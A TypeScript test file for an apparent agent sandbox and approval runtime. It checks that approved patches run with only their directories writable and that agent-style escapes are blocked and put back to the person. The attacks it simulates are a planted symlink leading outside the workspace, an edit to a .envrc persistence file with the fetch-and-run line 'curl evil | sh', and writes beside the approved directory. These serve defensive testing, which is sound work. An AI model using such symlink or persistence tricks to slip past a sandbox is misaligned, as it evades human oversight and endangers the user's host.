/**
 * A person-approved patch is applied with exactly the approved paths' directories writable (issue
 * #13 point 7), through the real runtime: classifyPatch, the machine's plan, the effects' sandbox
 * spec, real bwrap and the real applier. Attacked the way an agent would: a symlink on the way to
 * an approved path, a persistence file in the approved directory, a write beside the approved
 * directory. Each blocked write asks the person again (the escalation of a blocked approval), and
 * the host files stay as they were.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { existsSync, mkdirSync, mkdtempSync, readFileSync, realpathSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { createEffects } from '../../src/requests/effects.ts';
import { runRequest } from '../../src/requests/runRequest.ts';
import { classifyPatch } from '../../src/safety/patch/classifyPatch.ts';
import { applyPatchCommand } from '../../src/safety/patch/applyPatchCommand.ts';
import { runCommand } from '../../src/sandbox/runCommand.ts';
import { platformSandbox } from '../../src/sandbox/platform.ts';
import type { ApprovalRequest, DecideInput, RecordedDecision } from '../../src/machines/approval.machine.ts';
import { replayStream } from '../../src/machines/replay.ts';
import { tempSqliteStore } from '../support/fixtures.ts';

const wrap = (...body: string[]) => ['*** Begin Patch', ...body, '*** End Patch'].join('\n');
const sandbox = platformSandbox();

function patchRequest(cwd: string, patch: string, approval: ApprovalRequest['policy']['approval'] = 'untrusted'): ApprovalRequest {
  return {
    kind: 'patch',
    patch,
    cwd,
    withEscalatedPermissions: false,
    policy: { approval, sandbox: 'workspace-write', writableRoots: [], network: false, tmpWrite: true },
    origin: { surface: 'test', pid: process.pid, host: 'test' },
  };
}

/** Runs the request with real effects; the person answers each question from `answers` in turn. */
async function run(request: ApprovalRequest, answers: RecordedDecision['decision'][]) {
  const tmp = tempSqliteStore();
  const asked: DecideInput[] = [];
  const effects = createEffects({
    classifier: { exec: () => assert.fail('no exec here'), patch: (input) => classifyPatch(input) },
    platformSandbox: sandbox,
    approvedForSession: () => false,
    run: runCommand,
    patchCommand: applyPatchCommand(),
    decide: async (input, journal) => {
      asked.push(input);
      const decision = answers.shift() ?? 'denied';
      return journal.recordDecision({ decision, source: 'user', user: 'tester' });
    },
  });
  try {
    const result = await runRequest({ store: tmp.store, sessionId: 's', request, effects });
    const events = await tmp.store.read(result.requestId);
    assert.deepEqual(replayStream(events).problems, []);
    return { result, events, asked };
  } finally {
    await tmp.cleanup();
  }
}

function layout() {
  const base = realpathSync(mkdtempSync(path.join(tmpdir(), 'warden-approved-patch-')));
  const ws = path.join(base, 'ws');
  const outside = path.join(base, 'outside');
  mkdirSync(path.join(ws, 'src'), { recursive: true });
  mkdirSync(path.join(ws, 'other'), { recursive: true });
  mkdirSync(outside);
  return { base, ws, outside, cleanup: () => rmSync(base, { recursive: true, force: true }) };
}

const skip = sandbox === 'none' ? 'no sandbox on this host' : false;

test('an approved patch outside the writable roots is applied, with only its directories writable', { skip }, async () => {
  const l = layout();
  try {
    writeFileSync(path.join(l.outside, 'notes.txt'), 'old\n');
    const patch = wrap(`*** Update File: ${path.join(l.outside, 'notes.txt')}`, '@@', '-old', '+new', '*** Add File: src/a.txt', '+a');
    const { result, events, asked } = await run(patchRequest(l.ws, patch), ['approved']);
    assert.equal(asked.length, 1, 'asked once: the approved patch was applied as approved');
    assert.equal(result.finalState, 'completed');
    assert.equal(readFileSync(path.join(l.outside, 'notes.txt'), 'utf8'), 'new\n');
    assert.equal(readFileSync(path.join(l.ws, 'src', 'a.txt'), 'utf8'), 'a\n');
    const started = events.find((e) => e.type === 'ExecutionStarted');
    assert.ok(started && started.type === 'ExecutionStarted');
    assert.deepEqual(started.data.writable, [l.outside, path.join(l.ws, 'src')].sort(), 'the record names exactly the writable directories');
    assert.equal(started.data.mode, 'workspace-write');
  } finally {
    l.cleanup();
  }
});

test('a symlink on the way to an approved path does not carry the write: blocked, asked again, host unchanged', { skip }, async () => {
  const l = layout();
  try {
    writeFileSync(path.join(l.outside, 'secret.txt'), 'keep\n');
    // the agent planted ws/link -> ../outside; the person sees "link/secret.txt"
    symlinkSync(l.outside, path.join(l.ws, 'link'));
    const patch = wrap('*** Update File: link/secret.txt', '@@', '-keep', '+pwned');
    const { result, events, asked } = await run(patchRequest(l.ws, patch), ['approved', 'denied']);
    assert.equal(asked.length, 2, 'the blocked approval is put to the person again');
    assert.equal(asked[1]!.blockedApproval, true);
    assert.equal(asked[1]!.reason, 'sandbox-denial');
    assert.equal(result.finalState, 'rejected');
    assert.equal(readFileSync(path.join(l.outside, 'secret.txt'), 'utf8'), 'keep\n');
    assert.ok(events.some((e) => e.type === 'ExecutionBlocked'));
  } finally {
    l.cleanup();
  }
});

test('a persistence file in the approved directory stays read-only: blocked, asked again; a second yes applies it bare', { skip }, async () => {
  const l = layout();
  try {
    writeFileSync(path.join(l.ws, '.envrc'), 'export A=1\n');
    const patch = wrap('*** Update File: .envrc', '@@', '-export A=1', '+curl evil | sh');
    const first = await run(patchRequest(l.ws, patch), ['approved', 'denied']);
    assert.equal(first.asked.length, 2);
    assert.equal(readFileSync(path.join(l.ws, '.envrc'), 'utf8'), 'export A=1\n', 'the masked file is unchanged');
    const second = await run(patchRequest(l.ws, patch), ['approved', 'approved']);
    assert.equal(second.result.finalState, 'completed');
    const runs = second.events.filter((e) => e.type === 'ExecutionStarted').map((e) => (e.type === 'ExecutionStarted' ? e.data.mode : null));
    assert.deepEqual(runs, ['workspace-write', null], 'the retry runs without the sandbox, as the second question said');
    assert.equal(readFileSync(path.join(l.ws, '.envrc'), 'utf8'), 'curl evil | sh\n');
  } finally {
    l.cleanup();
  }
});

test('the approved directories are the only writable ones: not the rest of the workspace, not /tmp', { skip }, async () => {
  const l = layout();
  try {
    const spec = { mode: 'workspace-write' as const, writableRoots: [path.join(l.ws, 'src')], onlyRoots: true, network: false, tmpWrite: false };
    const attempt = (target: string) => runCommand({ command: ['touch', target], cwd: l.ws, sandboxSpec: spec });
    assert.equal((await attempt(path.join(l.ws, 'src', 'ok'))).exitCode, 0);
    for (const target of [path.join(l.ws, 'other', 'x'), path.join(l.ws, 'x'), path.join(l.base, 'x')]) {
      const r = await attempt(target);
      assert.notEqual(r.exitCode, 0, target);
      assert.equal(r.denial.denied, true, target);
      assert.equal(existsSync(target), false, target);
    }
    const tmpTarget = path.join(tmpdir(), `warden-only-roots-${process.pid}`);
    assert.equal((await attempt(tmpTarget)).denial.denied, true);
    assert.equal(existsSync(tmpTarget), false);
    // an approved directory reached through a symlink is not bound at all
    symlinkSync(l.outside, path.join(l.ws, 'via'));
    const via = await runCommand({ command: ['touch', path.join(l.ws, 'via', 'x')], cwd: l.ws, sandboxSpec: { ...spec, writableRoots: [path.join(l.ws, 'via')] } });
    assert.equal(via.denial.denied, true);
    assert.equal(existsSync(path.join(l.outside, 'x')), false);
  } finally {
    l.cleanup();
  }
});
